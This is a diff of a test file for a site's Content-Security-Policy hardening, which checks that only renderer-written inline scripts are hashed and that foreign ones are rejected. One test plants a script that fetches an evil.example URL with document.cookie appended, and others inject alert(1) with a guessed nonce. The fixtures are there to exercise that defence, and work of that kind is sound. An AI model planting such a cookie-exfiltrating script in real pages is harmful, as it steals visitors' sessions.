@@ -1,39 +1,104 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import {
-  hydrates,
-  inlineScriptHashes,
-  inlineStyleHashes,
-  pageScriptHashes,
-  staticHostHeaders,
-  withPolicyMeta,
-} from './harden-pages.ts';
+import { pageHashes, staticHostHeaders, withPolicyMeta } from './harden-pages.ts';
+import { allowListMeta, ForeignInlineScriptError, ownInlineScripts } from '../app/lib/inline-allow-list.ts';
 import { SPECULATION_RULES } from '../app/lib/speculation-rules.ts';
 import { cacheControl, pagePolicy } from '../worker/security.ts';
 
 const sha = (body: string) => `sha256-${createHash('sha256').update(body).digest('base64')}`;
 
 describe('page hardening', () => {
+  const NONCE = 'render-nonce';
   const page = [
     '<!DOCTYPE html><html><head><meta charSet="utf-8"/><title>x</title>',
     '<script type="application/ld+json">{"@type":"Thing"}</script>',
     '<script src="/assets/a.js"></script>',
-    '<script>window.a = 1</script><script type="module" async="">import "/assets/b.js";</script>',
-    '<script>window.a = 1</script></head><body></body></html>',
+    `<script nonce="${NONCE}">window.__reactRouterContext = {}</script>`,
+    `<script type="module" async="" nonce="${NONCE}">import "/assets/b.js";</script>`,
+    '<script>window.site = 1</script></head><body></body></html>',
   ].join('');
+  const rendered = () =>
+    ownInlineScripts(page, { where: '/x', nonce: NONCE, fixed: ['window.site = 1'], styles: ['.a{}'] });
 
-  it('hashes each inline script a browser would run, once, and not JSON-LD or external scripts', () => {
-    expect(inlineScriptHashes(page)).toEqual([sha('window.a = 1'), sha('import "/assets/b.js";')]);
+  describe('the renderer’s list (issue 32)', () => {
+    it('takes scripts with the render’s nonce and our fixed ones, skips JSON-LD and external scripts, and removes the nonce', () => {
+      const { html, list } = rendered();
+      expect(list).toEqual({
+        scripts: ['window.__reactRouterContext = {}', 'import "/assets/b.js";', 'window.site = 1'],
+        styles: ['.a{}'],
+        hydrates: true,
+      });
+      expect(html).not.toContain(NONCE);
+    });
+
+    it('refuses a page with an inline script it did not write, such as one planted in a contractor’s data', () => {
+      const planted = page.replace(
+        '<body>',
+        '<body><script>fetch("https://evil.example/?"+document.cookie)</script>',
+      );
+      expect(() =>
+        ownInlineScripts(planted, {
+          where: '/states/tx/austin/x',
+          nonce: NONCE,
+          fixed: ['window.site = 1'],
+          styles: [],
+        }),
+      ).toThrow(ForeignInlineScriptError);
+      // A script copying the nonce attribute of another build is foreign too.
+      expect(() =>
+        ownInlineScripts(page.replace('<body>', '<body><script nonce="guessed">alert(1)</script>'), {
+          where: '/x',
+          nonce: NONCE,
+          fixed: ['window.site = 1'],
+          styles: [],
+        }),
+      ).toThrow('/x has an inline script the renderer did not write: "alert(1)"');
+    });
   });
 
-  it('allows the speculation rules a content page adds on first input, and not on a page that hydrates', () => {
-    expect(pageScriptHashes(page)).toEqual([...inlineScriptHashes(page), sha(SPECULATION_RULES)]);
-    const app = page.replace('window.a = 1', 'window.__reactRouterContext = {}');
-    expect(pageScriptHashes(app)).toEqual(inlineScriptHashes(app));
+  describe('the build’s policy from that list', () => {
+    it('hashes exactly the listed scripts, once, and removes the list from the page', () => {
+      const { html, list } = rendered();
+      const page = pageHashes(html.replace('<head>', `<head>${allowListMeta(list)}`), 'x.html');
+      expect(page.scriptHashes).toEqual([
+        sha('window.__reactRouterContext = {}'),
+        sha('import "/assets/b.js";'),
+        sha('window.site = 1'),
+      ]);
+      expect(page.html).not.toContain('pond-inline-allow-list');
+      expect(page.styleHashes).toBeUndefined();
+    });
+
+    it('fails on a page with a script that is not on its list, or a page with inline script and no list', () => {
+      const { html, list } = rendered();
+      const listed = html.replace('<head>', `<head>${allowListMeta(list)}`);
+      expect(() =>
+        pageHashes(listed.replace('</body>', '<script>alert(1)</script></body>'), 'x.html'),
+      ).toThrow('x.html has an inline script the renderer did not write: "alert(1)"');
+      expect(() => pageHashes(html, 'x.html')).toThrow(ForeignInlineScriptError);
+      // A page React Router wrote itself (a redirect) without any inline script is fine.
+      expect(pageHashes('<html><head></head><body>Redirecting</body></html>', 'r.html').scriptHashes).toEqual(
+        [sha(SPECULATION_RULES)],
+      );
+    });
+
+    it('allows the speculation rules and hashes the styles on a page that does not hydrate', () => {
+      const content = allowListMeta({
+        scripts: ['window.site = 1'],
+        styles: ['.a{color:red}'],
+        hydrates: false,
+      });
+      const page = pageHashes(
+        `<html><head>${content}<script>window.site = 1</script></head></html>`,
+        'c.html',
+      );
+      expect(page.scriptHashes).toEqual([sha('window.site = 1'), sha(SPECULATION_RULES)]);
+      expect(page.styleHashes).toEqual([sha('.a{color:red}'), sha('')]);
+    });
   });
 
   it('puts the policy right after the charset, before any script', () => {
-    const policy = pagePolicy({ scriptHashes: inlineScriptHashes(page) });
+    const policy = pagePolicy({ scriptHashes: rendered().list.scripts.map(sha) });
     const hardened = withPolicyMeta(page, policy);
     expect(hardened.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(
       hardened.indexOf('<script'),
@@ -75,20 +140,9 @@ describe('page hardening', () => {
   });
 
   describe('styles of pages that do not hydrate (issue 21)', () => {
-    const content =
-      '<html><head><style data-styled="true">.a{color:red}</style></head><body><style>.b{}</style></body></html>';
-
-    it('hashes each style block, and the empty style the widget kit fills through the CSS object model', () => {
-      expect(inlineStyleHashes(content)).toEqual([sha('.a{color:red}'), sha('.b{}'), sha('')]);
-    });
-
-    it('tells a page that hydrates by React Router’s context script', () => {
-      expect(hydrates(content)).toBe(false);
-      expect(hydrates('<script>window.__reactRouterContext = {}</script>')).toBe(true);
-    });
-
     it("lists the hashes instead of 'unsafe-inline' when given them, and keeps it for pages that hydrate", () => {
-      const hashed = pagePolicy({ scriptHashes: [], styleHashes: inlineStyleHashes(content) });
+      const styleHashes = [sha('.a{color:red}'), sha('.b{}'), sha('')];
+      const hashed = pagePolicy({ scriptHashes: [], styleHashes });
       expect(hashed).toContain(`style-src 'self' '${sha('.a{color:red}')}' '${sha('.b{}')}' '${sha('')}'`);
       expect(hashed).not.toContain("'unsafe-inline'");
       expect(pagePolicy({ scriptHashes: [] })).toContain("style-src 'self' 'unsafe-inline'");
